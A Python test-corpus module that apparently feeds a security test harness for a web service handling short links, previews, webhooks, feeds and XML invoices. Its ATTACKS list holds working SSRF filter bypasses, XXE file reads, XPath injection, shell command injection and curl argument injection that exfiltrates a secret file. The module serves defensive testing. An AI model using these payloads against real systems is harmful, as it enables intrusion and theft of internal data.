"""Short links, previews, feeds, webhooks out, XML of partners."""

from urllib.parse import quote

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eighth import (
    INTERNAL,
    LINK,
    PEOPLE,
    SNIPPET,
    TICKET,
    api,
    graphql,
    http,
    queue,
    topic,
)

SECRET = "link-secret-5583"


def _shorten(url: str) -> dict[str, object]:
    return http("POST", "/links", {"url": url})


def _at(path: str, url: str) -> dict[str, object]:
    return http("GET", path, query={"url": url})


def _order(number: str) -> dict[str, object]:
    return api("GET", f"/orders/{number}", ids={"number": number})


def _hook(callback: str, name: str = "orders") -> tuple[str, dict[str, object]]:
    return ("subscribe", http("POST", "/hooks", {"topic": name, "callback": callback}))


def _message(name: str = "orders", /, **more: object) -> dict[str, object]:
    return topic({"topic": name, "id": 7, **more})


def _invoice(number: str, note: str, head: str = "") -> dict[str, object]:
    return http(
        "POST",
        "/invoices",
        f'<?xml version="1.0"?>{head}<invoice><number>{number}</number><total>12.50</total><note>{note}</note></invoice>',
        headers={"content-type": "application/xml"},
    )


def _xpath(name: str) -> dict[str, object]:
    return http("GET", "/catalog", query={"name": name})


def _rss(*titles: str) -> dict[str, object]:
    items = "".join(
        f"<item><title>{one}</title><link>https://example.org/{n}</link></item>"
        for n, one in enumerate(titles)
    )
    return http(
        "POST",
        "/rss",
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>{items}</channel></rss>',
    )


REQUESTS = {
    "shorten": [
        _shorten(LINK),
        _shorten("http://user@example.org:8080/a/../b?x='y'"),
        _shorten("javascript:alert(1)"),
        _shorten("@PARTNER@/articles/7"),
    ],
    "follow": [
        http("GET", "/x", ids={"code": "nope"}),
        http("GET", "/x", ids={"code": "abc1234"}, query={"utm_source": "it's", "to": "http://localhost/x"}),
        http("GET", "/été", ids={"code": "é/../x"}),
    ],
    "check_links": [{"latest": 1}, {"latest": 0}],
    "preview": [
        _at("/preview", "@PARTNER@/articles/7?lang=en&q=it's"),
        _at("/preview", "@PARTNER@/missing/page"),
        _at("/preview", f"@PARTNER@/wiki/{quote('Zürich (Stadt)')}#history"),
        _at("/preview", "@PARTNER@/redirect?to=/articles/8"),
    ],
    "preview_checked": [
        _at("/preview", "@PARTNER@/articles/7"),
        _at("/preview", "http://localhost/admin"),
        _at("/preview", "@PARTNER@/a?b=c;d#e"),
    ],
    "avatar": [
        graphql("Mutation", "avatar", picture="@PARTNER@/u/42.png?s=200&d=identicon"),
        graphql("Mutation", "avatar", picture="@PARTNER@/missing/Zo%C3%AB.jpg"),
        graphql("Mutation", "avatar", picture="http://127.0.0.1/x.png"),
    ],
    "oembed": [
        _at("/oembed", LINK),
        _at("/oembed", "http://127.0.0.1/../x?y=1&maxwidth=2"),
        http("GET", "/oembed", query={"url": "https://example.org/ü", "maxwidth": "320"}),
    ],
    "partner_order": [_order("4711"), _order("R-2024-05_17"), _order("A%2F12"), _order("missing")],
    "partner_product": [_order("O'Brien/../x?y#z"), _order("茶 100%"), _order("42")],
    "region_api": [
        {"region": "eu-central-1"},
        {"region": "us-east-1", "user": "reader"},
        {"region": "ap/south 1".replace(" ", "-")},
    ],
    "subscribe": [
        _hook("@PARTNER@/hooks/in?token=it's")[1],
        _hook("https://hooks.example.org/services/T0/B0/x", "users")[1],
        _hook("@PARTNER@/hooks/orders;v=2", "orders")[1],
    ],
    "deliver": [_message(), _message("nobody", name=PEOPLE[0]), _message(text=SNIPPET, note=TICKET)],
    "feed": [
        _rss("It's new", "Tea &amp; cake"),
        _rss(),
        _rss("<![CDATA[<b>5 > 3</b> & {{ x }}]]>", "日本語"),
    ],
    "import_feed": [
        {"url": "@PARTNER@/feed.xml"},
        {"url": "@PARTNER@/export?from=2024-01-01&to=2024-12-31&name=it%27s"},
    ],
    "invoice_xml": [
        _invoice("2024-1", "it&apos;s paid &amp; done"),
        _invoice("Ü/7", "<![CDATA[5 > 3 & <!ENTITY x>]]>"),
        _invoice(
            "3", "see http://localhost/x", '<!DOCTYPE invoice [<!ENTITY firm "Müller &amp; Co">]>'
        ).copy(),
    ],
    "catalog_xpath": [_xpath("Earl Grey"), _xpath("Assam (2nd flush)"), _xpath("it's not here")],
    "head_check": [
        _at("/head", "@PARTNER@/articles/7?a=1&b=(2)"),
        _at("/head", "@PARTNER@/missing"),
        _at("/head", "@PARTNER@/a;b?c=$d&e=*"),
    ],
    "mirror": [
        queue({"url": "@PARTNER@/data/Report-2024.csv"}),
        queue({"url": "@PARTNER@/data/a&b;c"}, {"url": "@PARTNER@/x?y='z'"}),
        queue({"url": "@PARTNER@/missing/file"}),
    ],
    "proxy": [
        http("GET", "/v1/items", query={"q": "it's", "sort": "-created"}),
        http("POST", "/v1/items/O'Brien", {"name": PEOPLE[3]}),
        http("GET", "/été/a b/100%25"),
    ],
}
_XXE = '<!DOCTYPE invoice [<!ENTITY {} SYSTEM "{}">]>'
# What comes all day.
ORDINARY = {
    "shorten": [
        _shorten("https://example.org/2024/05/spring-sale"),
        _shorten("https://maps.example.org/?q=Cork,+Ireland&z=12"),
        _shorten("@PARTNER@/sale?id=7"),
    ],
    "preview": [_at("/preview", "@PARTNER@/blog/2024/05/02/spring-tea"), _at("/preview", "@PARTNER@/")],
    "preview_checked": [_at("/preview", "@PARTNER@/news?id=17"), _at("/preview", "@PARTNER@/missing")],
    "avatar": [graphql("Mutation", "avatar", picture="@PARTNER@/avatars/maria.jpg")],
    "oembed": [_at("/oembed", "https://video.example.org/watch?v=dQw4w9WgXcQ")],
    "partner_order": [_order("100042"), _order("ord_01HX3T9")],
    "partner_product": [_order("SKU-7")],
    "region_api": [{"region": "eu-west-1"}],
    "deliver": [_message(status="paid", amount=12.5), _message("stock", sku="A1", left=3)],
    "feed": [_rss("Spring tea", "New shop in Cork")],
    "import_feed": [{"url": "@PARTNER@/products.json?page=2"}],
    "invoice_xml": [_invoice("2024-17", "Thank you")],
    "catalog_xpath": [_xpath("Darjeeling")],
    "head_check": [_at("/head", "@PARTNER@/"), _at("/head", "@PARTNER@/products/7")],
    "mirror": [queue({"url": "@PARTNER@/images/logo.png"})],
    "proxy": [http("GET", "/v1/users/17"), http("POST", "/v1/orders", {"sku": "A1", "n": 2})],
}
for _handler, _events in ORDINARY.items():
    REQUESTS[_handler] += _events
ATTACKS = [
    Attack("SSRF, loopback", "preview", _at("/preview", "@INSIDE@/internal/keys"), INTERNAL),
    Attack("SSRF, loopback", "preview", _at("/preview", "http://localhost:@PORT@/internal"), INTERNAL),
    Attack(
        "SSRF, redirect",
        "preview",
        _at("/preview", "@PARTNER@/redirect?to=http%3A%2F%2F127.0.0.1%3A@PORT@%2Finternal"),
        INTERNAL,
    ),
    Attack(
        "SSRF, decimal", "preview_checked", _at("/preview", "http://2130706433:@PORT@/internal"), INTERNAL
    ),
    Attack("SSRF, short form", "preview_checked", _at("/preview", "http://127.1:@PORT@/internal"), INTERNAL),
    Attack("SSRF, octal", "preview_checked", _at("/preview", "http://0177.0.0.01:@PORT@/internal"), INTERNAL),
    Attack(
        "SSRF, hexadecimal", "preview_checked", _at("/preview", "http://0x7f000001:@PORT@/internal"), INTERNAL
    ),
    Attack(
        "SSRF, other loopback",
        "preview_checked",
        _at("/preview", "http://127.8.8.8:@PORT@/internal"),
        INTERNAL,
    ),
    Attack(
        "SSRF, IPv6", "preview_checked", _at("/preview", "http://[::ffff:7f00:1]:@PORT@/internal"), INTERNAL
    ),
    Attack("SSRF, zero", "preview_checked", _at("/preview", "http://0:@PORT@/internal"), INTERNAL),
    Attack(
        "SSRF, userinfo",
        "preview_checked",
        _at("/preview", "http://example.org%2F@127.1:@PORT@/internal"),
        INTERNAL,
    ),
    Attack(
        "SSRF, redirect",
        "preview_checked",
        _at("/preview", "@PARTNER@/redirect?to=http:%2f%2f127.1:@PORT@/internal"),
        INTERNAL,
    ),
    Attack(
        "SSRF, redirect",
        "avatar",
        graphql(
            "Mutation",
            "avatar",
            picture="@PARTNER@/redirect?to=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%3A@PORT@%2Finternal",
        ),
        "eyJzZWNyZXQiOiAiaW50ZXJuYWwtdG9rZW4t",
    ),
    Attack(
        "SSRF, zero",
        "avatar",
        graphql("Mutation", "avatar", picture="http://0.0.0.0:@PORT@/internal/x"),
        "eyJzZWNyZXQiOiAiaW50ZXJuYWwtdG9rZW4t",
    ),
    Attack(
        "SSRF, second order",
        "deliver",
        _message(),
        INTERNAL,
        before=[_hook("http://127.0.0.1:@PORT@/internal/hook")],
    ),
    Attack(
        "SSRF, second order",
        "deliver",
        _message(),
        INTERNAL,
        before=[_hook("http://a:b@2130706433:@PORT@/internal?x")],
    ),
    Attack(
        "SSRF, second order",
        "check_links",
        {"latest": 1},
        INTERNAL,
        before=[("shorten", _shorten("@INSIDE@/internal/7"))],
    ),
    Attack("SSRF, path", "partner_order", _order("../../internal/orders?"), INTERNAL),
    Attack("SSRF, path", "partner_order", _order("7/../../../internal/x#"), INTERNAL),
    Attack("SSRF, userinfo", "region_api", {"region": "x", "user": "a@127.0.0.1:@PORT@/internal?"}, INTERNAL),
    Attack("SSRF, userinfo", "region_api", {"region": "x", "user": "127.1:@PORT@/internal/y#"}, INTERNAL),
    Attack("SSRF, path", "region_api", {"region": "internal"}, INTERNAL),
    Attack("SSRF, scheme", "import_feed", {"url": "file:///tmp/links-secret.txt"}, SECRET),
    Attack("SSRF, scheme", "import_feed", {"url": "FILE://localhost/tmp/../tmp/links-secret.txt"}, SECRET),
    Attack("SSRF, scheme", "import_feed", {"url": "<URL:file:///tmp/links-secret.txt>"}, SECRET),
    Attack("SSRF, loopback", "import_feed", {"url": "http://127.0.1:@PORT@/internal"}, INTERNAL),
    Attack(
        "XXE, file",
        "invoice_xml",
        _invoice("1", "&x;", _XXE.format("x", "file:///tmp/links-secret.txt")),
        SECRET,
    ),
    Attack(
        "XXE, file",
        "invoice_xml",
        _invoice(
            "&y;", "a", "<!DOCTYPE r [<!ENTITY % p \"<!ENTITY y SYSTEM '/tmp/links-secret.txt'>\"> %p;]>"
        ),
        SECRET,
    ),
    Attack(
        "XXE, address",
        "invoice_xml",
        _invoice(
            "1",
            "&x;",
            '<!DOCTYPE a PUBLIC "-//x" "file:///dev/null" [<!ENTITY x SYSTEM "file:/tmp/./links-secret.txt">]>',
        ),
        SECRET,
    ),
    Attack("XPath", "catalog_xpath", _xpath('" or "1"="1'), "xpath-secret-1187"),
    Attack(
        "XPath",
        "catalog_xpath",
        _xpath('x"] | //product[@hidden="yes"]/price/text() | //x["'),
        "xpath-secret-1187",
    ),
    Attack(
        "XPath",
        "catalog_xpath",
        _xpath('Assam (2nd flush)"]/following-sibling::*[.//text()!="'),
        "xpath-secret-1187",
    ),
    Attack("command, quotes", "head_check", _at("/head", "x';cat /tmp/links-secret.txt;'"), SECRET),
    Attack(
        "command, quotes",
        "head_check",
        _at("/head", "x' -o /dev/stdout 'file:///tmp/links-secret.txt"),
        SECRET,
    ),
    Attack("command, quotes", "head_check", _at("/head", "'\ncat</tmp/links-secret.txt\n: '"), SECRET),
    Attack("command, argument", "mirror", queue({"url": "-s file:///tmp/links-secret.txt"}), SECRET),
    Attack(
        "command, argument",
        "mirror",
        queue({"url": "@PARTNER@/echo --data-binary @/tmp/links-secret.txt"}),
        SECRET,
    ),
    Attack("SSRF, loopback", "mirror", queue({"url": "http://127.0.0.1:@PORT@/internal/m"}), INTERNAL),
    Attack(
        "command, argument",
        "mirror",
        queue({"url": "-Kfoo -F f=@/tmp/links-secret.txt @PARTNER@/y".replace("-Kfoo ", "")}),
        SECRET,
    ),
]
